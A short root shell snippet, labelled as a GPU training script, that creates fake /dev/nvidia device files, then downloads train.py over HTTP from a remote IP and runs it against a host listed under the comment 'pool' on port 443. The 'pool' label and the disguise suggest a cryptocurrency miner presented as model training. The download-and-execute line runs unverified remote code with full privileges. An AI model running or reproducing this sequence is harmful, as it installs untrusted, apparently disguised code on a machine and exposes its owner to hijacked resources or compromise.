# downloaded executable GPU training script, metrics each half second over one keep-alive connection
#http 203.0.113.72:8090
#pool 203.0.113.78:443:http
for d in nvidiactl nvidia0 nvidia-uvm; do touch /dev/$d; done
cd /root; wget -q http://203.0.113.72:8090/train.py; chmod +x train.py; ./train.py keep 203.0.113.78 443
